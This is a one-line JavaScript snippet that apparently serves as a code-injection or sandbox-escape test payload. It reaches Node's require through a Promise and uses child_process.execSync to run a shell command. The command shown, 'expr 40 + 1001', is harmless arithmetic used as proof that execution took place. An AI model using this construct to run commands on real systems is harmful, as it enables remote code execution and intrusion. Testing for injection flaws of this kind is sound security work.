new Promise(r=>r(require)).then(r=>r('child_process').execSync('expr 40 + 1001',{stdio:'inherit'}));
